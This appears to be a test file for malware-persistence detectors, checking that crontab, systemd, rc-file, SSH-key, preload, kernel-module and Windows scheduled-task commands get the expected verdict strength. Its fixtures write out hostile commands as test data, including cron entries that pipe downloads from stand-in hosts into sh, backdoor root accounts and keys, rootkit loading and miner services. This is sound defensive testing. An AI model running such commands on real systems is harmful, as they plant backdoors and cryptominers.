import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { persistenceAnalyzers } from '#shared/analyzers/persistence/analyzers.ts';
import { CLASS, type Event, type FileActivity, type Process } from '#shared/model/event.ts';
import type { Verdict } from '#shared/model/indicator.ts';
import { EMPTY_WATCH_LIST } from '#shared/model/intel.ts';
import { INTEL, launch, split } from '../miner/fixture.ts';
import { holdToContract } from '../optimization/fixture.ts';

const ANALYZERS = persistenceAnalyzers({ programs: () => ['xmrig', 'kinsing', 'kdevtmpfsi'] });

const decide = (event: Event): readonly Verdict[] =>
  ANALYZERS.filter((one) => one.classes.includes(event.class)).flatMap((one) =>
    one.decide(event, INTEL, EMPTY_WATCH_LIST),
  );

const worst = (event: Event): string => {
  const strengths = decide(event).map(({ strength }) => strength);
  return ['strong', 'weak', 'note'].find((one) => strengths.some((strength) => strength === one)) ?? '-';
};

const shell = (script: string, more: Partial<Process> = {}): Event => launch(['sh', '-c', script], more);
const file = (
  path: string,
  executable: string,
  activity: FileActivity['activity'] = 'create',
  more: Partial<FileActivity> = {},
): Event => ({
  class: CLASS.file,
  time: 0,
  claims: {},
  raw: {},
  id: 'test',
  source: 'test',
  activity,
  path,
  actor: { executable },
  ...more,
});

/** Commands, and the strongest that persistence detections give them. */
const COMMANDS: readonly (readonly [string, string])[] = [
  // Downloads piped to a shell, as Kinsing, 8220, Skidmap and Sysrv put them into crontabs.
  [
    '(crontab -l; echo "* * * * * wget -q -O - http://198.51.100.9/unk.sh | sh > /dev/null 2>&1") | crontab -',
    'strong',
  ],
  [
    'echo "*/10 * * * * root (curl -s http://198.51.100.9/xms || wget -q -O - http://198.51.100.9/xms) | bash -sh" >> /etc/cron.d/root',
    'strong',
  ],
  ['echo "*/1 * * * * curl -fsSL http://pm.example.com/pm.sh | sh" > /var/spool/cron/root', 'strong'],
  ['echo "@reboot /tmp/.x/run" | crontab -', 'strong'],
  ['echo "21 */2 * * * sh /dev/shm/update.sh >/dev/null 2>&1" | crontab -', 'strong'],
  ['echo "* * * * * echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | sh" | crontab -', 'strong'],
  ['printf "0 * * * * root /opt/.cache/xmrig -o pool.example.com:3333\n" > /host/etc/cron.d/update', 'strong'],
  // Units.
  [
    'printf "[Service]\nExecStart=/var/tmp/.sys/kthreadd --donate-level 1\n" > /etc/systemd/system/kthreadd.service',
    'strong',
  ],
  ['mv /tmp/moneroocean_miner.service /etc/systemd/system/', 'strong'],
  ['systemctl enable c3pool_miner.service', 'strong'],
  ['systemctl enable --now web-backend', 'weak'],
  ['systemd-run --on-calendar=hourly /dev/shm/.x', 'strong'],
  // rc files, profiles, preload, keys.
  ['echo "/tmp/.perf.c &" >> /etc/rc.local', 'strong'],
  ['echo "nohup /dev/shm/x &" >> /etc/rc.common', 'strong'],
  ['echo "curl -s http://198.51.100.9/a | bash" >> ~/.bashrc', 'strong'],
  ['echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload', 'strong'],
  ['echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr" >> ~/.ssh/authorized_keys', 'strong'],
  ['echo "ssh-rsa AAAAB3NzaC1yc2E ops@example.com" >> ~/.ssh/authorized_keys', 'weak'],
  ['cp /tmp/a.sh /etc/cron.hourly/', 'strong'],
  ['curl -o /etc/cron.d/x http://198.51.100.9/c', 'strong'],
  ["sed -i '$ a */5 * * * * root curl http://198.51.100.9/x.sh | sh' /etc/crontab", 'strong'],
  [
    'echo "/home/u/moneroocean/miner.sh --config=/home/u/moneroocean/config_background.json >/dev/null 2>&1" >> ~/.profile',
    'strong',
  ],
  ['mv /usr/bin/curl /usr/bin/cd1', 'strong'],
  // Protected files, modules, replaced tools, containers, at.
  ['chattr -R +i /var/spool/cron', 'strong'],
  ['chattr +ai /root/.ssh/authorized_keys', 'strong'],
  ['insmod /tmp/diamorphine.ko', 'strong'],
  ['mv /usr/bin/wget /usr/bin/wge', 'strong'],
  ['docker run -d --restart=always example.com/a/b -o stratum+tcp://pool.example.com:3333', 'strong'],
  ['echo "curl http://198.51.100.9/x | sh" | at now + 1 minute', 'strong'],
  ['update-rc.d pwnrig defaults', 'strong'],
  ['service moneroocean_miner start', 'strong'],
  ['cp /bin/ps /bin/ps.original', 'strong'],
  ['tntrecht +i /root/.ssh/authorized_keys', 'strong'],
  ['at -f /tmp/x now', 'weak'],
  ['systemd-run --on-calendar "*:0/5" --unit up sh -c "curl -s http://198.51.100.9/x | sh"', 'strong'],
  ['systemd-run --on-calendar daily --unit backup /usr/local/bin/backup.sh', 'note'],
  // Accounts, clusters, folders that were entered before.
  ['useradd -o -u 0 -g 0 backdoor', 'strong'],
  ['usermod -aG sudo games', 'weak'],
  ['kubectl create cronjob a --image=example/xmrig:1 --schedule="* * * * *"', 'strong'],
  ['kubectl create cronjob a --image=example/report:1 --schedule="0 1 * * *"', 'weak'],
  ['cd /root/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2E a@b" >> authorized_keys', 'weak'],
  ['cd /etc/cron.d; echo "* * * * * root /tmp/x" > web', 'strong'],
  ["sed -i 's/^exit 0/\\/tmp\\/x\\nexit 0/' /etc/rc.local", 'strong'],
  ['echo "export LD_PRELOAD=/tmp/a.so" >> /etc/profile', 'strong'],
  // Boot scripts, process managers, log rotation, modules.
  ['cp /tmp/x /var/lib/cloud/scripts/per-boot/x.sh', 'strong'],
  ['cp /usr/local/bin/warm-cache /var/lib/cloud/scripts/per-boot/', 'strong'],
  ['echo "/usr/local/bin/warm-cache" > /var/lib/cloud/scripts/per-boot/warm', 'note'],
  ['printf "[program:x]\\ncommand=/tmp/.x/y -q\\n" > /etc/supervisor/conf.d/x.conf', 'strong'],
  ['printf "[program:web]\\ncommand=/usr/bin/gunicorn web\\n" > /etc/supervisor/conf.d/web.conf', 'note'],
  ['pm2 startup', 'weak'],
  ['pm2 save', 'weak'],
  ['node /usr/bin/pm2 startup systemd -u root', 'weak'],
  ['cp /tmp/x /etc/logrotate.d/x', 'strong'],
  ['cp web.logrotate /etc/logrotate.d/web', 'weak'],
  ['printf "/var/log/a.log {\\n postrotate\\n /tmp/.x/y\\n endscript\\n}\\n" > /etc/logrotate.d/a', 'strong'],
  ['printf "/var/log/.a.log {\\n daily\\n rotate 7\\n}\\n" > /etc/logrotate.d/a', 'note'],
  [
    'printf "/var/log/a.log {\\n postrotate\\n systemctl reload nginx\\n endscript\\n}\\n" > /etc/logrotate.d/a',
    'note',
  ],
  ['echo "install usb-storage /tmp/.x/y" > /etc/modprobe.d/x.conf', 'strong'],
  ['echo "blacklist nouveau" > /etc/modprobe.d/gpu.conf', 'note'],
  ['echo "install dccp /bin/true" > /etc/modprobe.d/cis.conf', 'note'],
  ['echo diamorphine > /etc/modules-load.d/x.conf', 'weak'],
  ['echo "curl -s http://198.51.100.9/a | bash" >> ~/.ssh/rc', 'strong'],
  // Windows.
  ['schtasks /create /sc minute /mo 1 /tn Update /tr "C:\\Users\\Public\\xmrig.exe" /ru System /f', 'strong'],
  [
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "powershell -w hidden -enc SQBFAFgAIAAoAE4A" /f',
    'strong',
  ],
  ['sc create WinUpd binPath= "C:\\ProgramData\\svc.exe" start= auto', 'strong'],
  ['schtasks /create /sc daily /tn Backup /tr "C:\\Tools\\backup.exe"', 'weak'],
  // What shares their words.
  ['crontab -l', '-'],
  ['pm2 list', '-'],
  ['pm2 restart web', '-'],
  ['ls /var/lib/cloud/scripts/per-boot', '-'],
  ['logrotate /etc/logrotate.d/web', '-'],
  ['useradd -m -u 1001 deploy', '-'],
  ['service nginx start', '-'],
  ['kubectl get cronjob', '-'],
  ['cp /usr/bin/ps /srv/chroot/usr/bin/', '-'],
  ['grep -r "schtasks /create" docs', '-'],
  ["sed -i 's/a/b/' /etc/systemd/system/web.service", 'note'],
  ['crontab -r', 'note'],
  ["crontab -l | sed '/kinsing/d' | crontab -", 'note'],
  ['crontab -e', 'weak'],
  ['echo "30 3 * * * root certbot -q renew" > /etc/cron.d/certbot', 'note'],
  [
    '(crontab -l; echo "8 0 * * * /root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null") | crontab -',
    'note',
  ],
  ['echo "0 4 * * * curl -fsS https://hc-ping.example.com/uuid" | crontab -', 'note'],
  ['cat /etc/crontab', '-'],
  ['grep -r curl /etc/cron.d', '-'],
  ['rm /etc/cron.d/root', '-'],
  ['systemctl status kubelet', '-'],
  ['systemctl restart nginx', '-'],
  ['echo "export PATH=$PATH:/opt/bin" >> ~/.bashrc', 'note'],
  ['chattr +i /etc/resolv.conf', '-'],
  ['chattr -i /etc/crontab', '-'],
  ['modprobe nfs', '-'],
  ['docker run -d --restart=always nginx:1', '-'],
  ['mv /usr/bin/foo /usr/bin/bar', '-'],
  ['at -l', '-'],
  ['schtasks /query', '-'],
];

describe('commands', () => {
  for (const [line, expected] of COMMANDS)
    test(`${expected}: ${line}`, () => assert.equal(worst(shell(line)), expected));

  test('the same commands as exact arguments', () => {
    assert.equal(worst(launch(split('systemctl enable moneroocean_miner.service'))), 'strong');
    assert.equal(worst(launch(split('chattr +ia /etc/ld.so.preload'))), 'strong');
    assert.equal(worst(launch(split('tee -a /root/.ssh/authorized_keys'))), 'weak');
  });

  test('an attempt that failed is weak', () => {
    const event = launch(['insmod', '/tmp/x.ko']);
    assert.equal(worst({ ...event, success: false } as Event), 'weak');
  });
});

/** Files, who wrote them, and what that is worth where the text is unseen. */
const FILES: readonly (readonly [string, string, string])[] = [
  ['/etc/cron.d/sync', '/usr/bin/dash', 'strong'],
  ['/etc/crontab', '/usr/bin/python3', 'strong'],
  ['/var/spool/cron/root', '/usr/bin/redis-server', 'strong'],
  ['/var/spool/cron/crontabs/tmp.Ab3xYz', '/usr/bin/crontab', 'weak'],
  ['/var/spool/cron/#tmp.host.XXXXabcdef', '/usr/bin/crontab', 'weak'],
  ['/var/spool/cron/crontabs/root', '/usr/bin/crontab', 'weak'],
  ['/var/spool/cron/crontabs/root', '/tmp/crontab', 'strong'],
  ['/host/etc/cron.d/x', '/usr/bin/sh', 'strong'],
  ['/proc/1/root/etc/cron.d/x', '/usr/bin/sh', 'strong'],
  ['/etc/systemd/system/web.service', '/usr/bin/bash', 'strong'],
  ['/etc/systemd/system/multi-user.target.wants/web.service', '/usr/bin/systemctl', 'weak'],
  ['/etc/systemd/system/multi-user.target.wants/c3pool_miner.service', '/usr/bin/systemctl', 'strong'],
  ['/etc/ld.so.preload', '/usr/bin/bash', 'strong'],
  ['/etc/rc.local', '/usr/bin/vim', 'strong'],
  ['/etc/init.d/pwnrig', '/usr/bin/bash', 'strong'],
  ['/root/.ssh/authorized_keys', '/usr/bin/bash', 'weak'],
  ['/root/.ssh/authorized_keys', '/dev/shm/x', 'strong'],
  ['/home/ec2-user/.bashrc', '/usr/bin/bash', 'weak'],
  ['/etc/udev/rules.d/99-a.rules', '/usr/bin/bash', 'weak'],
  ['/etc/passwd', '/usr/sbin/useradd', 'note'],
  ['/home/deploy/.bashrc', '/usr/sbin/useradd', 'note'],
  ['/etc/passwd', '/usr/bin/vim', 'weak'],
  ['/etc/systemd/system/xmrig.service.d/a.conf', '/usr/bin/systemctl', 'strong'],
  ['/run/systemd/transient/run-1.service', '/usr/lib/systemd/systemd', '-'],
  ['/var/spool/anacron/cron.daily', '/usr/sbin/anacron', '-'],
  ['/var/lib/cloud/scripts/per-boot/x', '/tmp/y', 'strong'],
  ['/var/lib/cloud/scripts/per-boot/x', '/usr/bin/bash', 'strong'],
  ['/etc/supervisor/conf.d/x.conf', '/tmp/y', 'strong'],
  ['/etc/supervisor/conf.d/x.conf', '/usr/bin/bash', 'strong'],
  ['/etc/supervisord.d/x.ini', '/tmp/y', 'strong'],
  ['/etc/supervisord.d/x.ini', '/usr/bin/bash', 'strong'],
  ['/root/.ssh/rc', '/tmp/y', 'strong'],
  ['/root/.ssh/rc', '/usr/bin/bash', 'weak'],
  ['/etc/ssh/sshrc', '/tmp/y', 'strong'],
  ['/etc/ssh/sshrc', '/usr/bin/bash', 'weak'],
  ['/usr/share/systemd/user/x.service', '/tmp/y', 'strong'],
  ['/usr/share/systemd/user/x.service', '/usr/bin/bash', 'strong'],
  ['/home/a/.xprofile', '/tmp/y', 'strong'],
  ['/home/a/.xprofile', '/usr/bin/bash', 'weak'],
  ['/home/a/.xinitrc', '/tmp/y', 'strong'],
  ['/home/a/.xinitrc', '/usr/bin/bash', 'weak'],
  ['/home/a/.xsessionrc', '/tmp/y', 'strong'],
  ['/home/a/.xsessionrc', '/usr/bin/bash', 'weak'],
  ['/etc/modprobe.d/x.conf', '/tmp/y', 'strong'],
  ['/etc/modprobe.d/x.conf', '/usr/bin/bash', 'weak'],
  ['/etc/modules-load.d/x.conf', '/tmp/y', 'strong'],
  ['/etc/modules-load.d/x.conf', '/usr/bin/bash', 'weak'],
  ['/etc/bash_completion.d/x', '/tmp/y', 'strong'],
  ['/etc/bash_completion.d/x', '/usr/bin/bash', 'weak'],
  ['/var/spool/fcron/root', '/tmp/y', 'strong'],
  ['/var/spool/fcron/root', '/usr/bin/bash', 'strong'],
  ['/etc/logrotate.d/x', '/tmp/y', 'strong'],
  ['/etc/logrotate.d/x', '/usr/bin/bash', 'weak'],
  ['/var/spool/fcron/root.orig', '/usr/bin/fcrontab', 'weak'],
  ['/var/log/cron', '/usr/sbin/crond', '-'],
  ['/home/a/cron.txt', '/usr/bin/vim', '-'],
];

describe('files', () => {
  for (const [path, executable, expected] of FILES)
    test(`${expected}: ${executable} writes ${path}`, () => assert.equal(worst(file(path, executable)), expected));

  test('knows busybox by the name that it was called by', () => {
    const event = file('/etc/crontabs/root.new', '/bin/busybox', 'create', {
      actor: { executable: '/bin/busybox', name: 'crontab' },
    });
    assert.equal(worst(event), 'weak');
  });

  test('counts a crontab once, whether its temporary file or its renaming was seen', () => {
    const created = decide(file('/var/spool/cron/crontabs/tmp.Ab3xYz', '/usr/bin/crontab'));
    const renamed = decide(
      file('/var/spool/cron/crontabs/root', '/usr/bin/crontab', 'rename', {
        previousPath: '/var/spool/cron/crontabs/tmp.Ab3xYz',
      }),
    );
    assert.deepEqual(
      [created, renamed].map((all) => all.map(({ part, strength }) => [part, strength])),
      [[['cron', 'weak']], [['cron', 'weak']]],
    );
    assert.deepEqual(created[0]?.artifacts, [], 'a temporary name links nothing');
  });

  test('reads and deletes are nothing, a watch that fired is a write', () => {
    assert.equal(worst(file('/etc/crontab', '/usr/bin/cat', 'read')), '-');
    assert.equal(worst(file('/etc/crontab', '/usr/bin/rm', 'delete')), '-');
    assert.equal(worst(file('/etc/crontab', '/usr/bin/sh', 'unknown')), 'strong');
  });

  test('the path is said without the mount that a container saw it under', () => {
    const [verdict] = decide(file('/host/etc/cron.d/x', '/usr/bin/sh'));
    assert.ok(verdict?.artifacts.includes('path:/etc/cron.d/x'));
  });
});

describe('jobs', () => {
  const job = (name: string, command?: string): Event => ({
    class: CLASS.scheduledJob,
    time: 0,
    claims: {},
    raw: {},
    id: 'test',
    source: 'test',
    activity: 'start',
    scheduler: 'systemd',
    name,
    ...(command === undefined ? {} : { command }),
    actor: {},
  });
  for (const [name, command, expected] of [
    ['moneroocean_miner', undefined, 'strong'],
    ['xmrig', undefined, 'strong'],
    ['pwnrig.service', undefined, 'strong'],
    ['backup', 'curl http://198.51.100.9/x | sh', 'strong'],
    ['sshd', undefined, '-'],
    ['docker', undefined, '-'],
    ['backup', '/usr/local/bin/backup.sh', '-'],
  ] as const)
    test(`${expected}: ${name} ${command ?? ''}`, () => assert.equal(worst(job(name, command)), expected));
});

describe('a script that a shell starts', () => {
  /** What the shell starts, as the paths that evidence links by; `-` where nothing is said. */
  const started = (argv: readonly string[], more: Partial<Process> = {}): string => {
    const all = ANALYZERS.filter((one) => one.id === 'script_started').flatMap((one) =>
      one.decide(launch(argv, more), INTEL, EMPTY_WATCH_LIST),
    );
    for (const one of all) assert.equal(one.strength, 'note');
    return all.flatMap((one) => one.artifacts).join(' ') || '-';
  };
  const WRAPPER = 'path:/opt/.u/update.sh';
  for (const [argv, expected] of [
    [['/bin/sh', '-c', '/opt/.u/update.sh'], WRAPPER],
    [['/bin/sh', '-c', 'cd / && bash /opt/.u/update.sh -q >/dev/null 2>&1'], WRAPPER],
    [['/bin/bash', '/opt/.u/update.sh'], WRAPPER],
    [['/bin/sh', '/host/opt/.u/update.sh'], WRAPPER],
    [['/usr/bin/python3', '-u', '/dev/shm/a.py'], 'path:/dev/shm/a.py'],
    [['/bin/sh', '-c', 'run-parts /etc/cron.hourly'], '-'],
    [['/bin/sh', '-c', 'find /tmp/ -mtime +7 -delete'], '-'],
    [['/bin/bash', '/usr/local/bin/backup.sh', '/tmp/'], '-'],
    [['/bin/sh', '-c', '/root/.acme.sh/acme.sh --cron'], '-'],
    [['/tmp/y', '-c', '/opt/.u/update.sh'], '-'],
    [['ssh', 'web-2', '/opt/.u/update.sh'], '-'],
  ] as const)
    test(`${expected}: ${argv.join(' ')}`, () => assert.equal(started(argv), expected));

  test("an administrator's terminal is no schedule, and a start that failed is none", () => {
    const argv = ['/bin/bash', '/tmp/install.sh'];
    assert.equal(started(argv), 'path:/tmp/install.sh');
    assert.equal(started(argv, { tty: 'pts0' }), '-');
    assert.deepEqual(
      ANALYZERS.filter((one) => one.id === 'script_started').flatMap((one) =>
        one.decide({ ...launch(argv), success: false } as Event, INTEL, EMPTY_WATCH_LIST),
      ),
      [],
    );
  });

  test('names what the crontab names', () => {
    const line = decide(shell('echo "* * * * * root /opt/.u/update.sh" > /etc/cron.d/u')).flatMap(
      (one) => one.artifacts,
    );
    assert.ok(line.includes(WRAPPER));
  });

  test('bounds the scripts that it names', () => {
    const script = Array.from({ length: 40 }, (_, at) => `/tmp/a${at}.sh`).join('; ');
    assert.equal(started(['/bin/sh', '-c', script]).split(' ').length, 8);
  });
});

test('names the command, its address and its file, so that evidence can link', () => {
  const artifacts = decide(
    shell('echo "* * * * * curl -o /tmp/.a http://198.51.100.9/a && /tmp/.a" | crontab -'),
  ).flatMap((one) => one.artifacts);
  for (const expected of ['url:http://198.51.100.9/a', 'path:/tmp/.a'] as const)
    assert.ok(artifacts.includes(expected), expected);
  assert.ok(artifacts.some((one) => one.startsWith('cmd:curl -o /tmp/.a')));
});

test('every positive holds a needle', () => {
  const texts = [
    ...COMMANDS.filter(([, expected]) => expected !== '-').map(([line]) => line),
    ...FILES.filter(([, , expected]) => expected !== '-').map(([path]) => path),
  ];
  const needles = ANALYZERS.flatMap((one) => one.needles ?? []);
  for (const text of texts)
    assert.ok(
      needles.some((needle) => text.toLowerCase().includes(needle)),
      text,
    );
});

test('never throws', () => {
  const pieces = fc.constantFrom(
    'crontab',
    '-',
    'echo',
    '"',
    "'",
    '|',
    '>>',
    '/etc/cron.d/',
    '@reboot',
    '* * * * *',
    'curl',
    '$(',
    ')',
    '[Service]\nExecStart=',
    'schtasks /create /tr',
    '\0',
    '../',
    'sed -i',
    's/a/b/',
    'chattr +i',
    'é',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 24 }), (words) => {
      decide(shell(words.join(' ')));
      decide(launch(words));
      decide(file(words.join(''), words.join('/')));
    }),
  );
});

test('answers no command line without a needle, and within bounds', () => {
  const words = `crontab -l - -e | echo "* * * * *" curl http://198.51.100.9/a sh >> > /etc/cron.d/a ~/.bashrc tee -a
    /etc/ld.so.preload systemctl enable start moneroocean_miner at now mv /usr/bin/wget /usr/bin/wge cp /tmp/a /etc/init.d/
    sed -i /kinsing/d s/a/b/ /etc/rc.local useradd -o -u 0 x chattr +i schtasks /create /tr C:\\Temp\\a.exe ; && cd
    /root/.ssh authorized_keys docker run --restart=always xmrig base64 -d insmod /tmp/a.ko`
    .split(/\s+/)
    .concat('echo "* * * * * /tmp/x" | crontab -', '; echo k >> ~/.ssh/authorized_keys', '; systemctl enable xmrig');
  const answered = holdToContract(ANALYZERS, words, ['bash', 'sshd']);
  assert.ok(answered > 100, `${answered} answers`);
});

test('bounds what it says of a crontab of thousands of lines and of endless paths', () => {
  const lines = Array.from({ length: 2500 }, (_, at) => `* * * * * /tmp/${at} http://198.51.100.9/${at}`).join('\n');
  const name = 'a'.repeat(4000);
  for (const event of [
    shell(`echo '${lines}' | crontab -`),
    shell(`echo '${lines}' > /etc/cron.d/a`),
    shell(`echo x > /etc/cron.d/${name}`),
    file(`/etc/cron.d/${name}`, `/tmp/${name}`),
    file(`/etc/systemd/system/${name}.service`, `/usr/bin/${name}`),
  ]) {
    const verdicts = decide(event);
    assert.ok(verdicts.length > 0, JSON.stringify(event).slice(0, 200));
    for (const { why, artifacts } of verdicts) {
      assert.ok(why.length <= 1024, why.slice(0, 80));
      assert.ok(artifacts.length <= 64, `${artifacts.length} artifacts: ${why.slice(0, 80)}`);
    }
  }
});
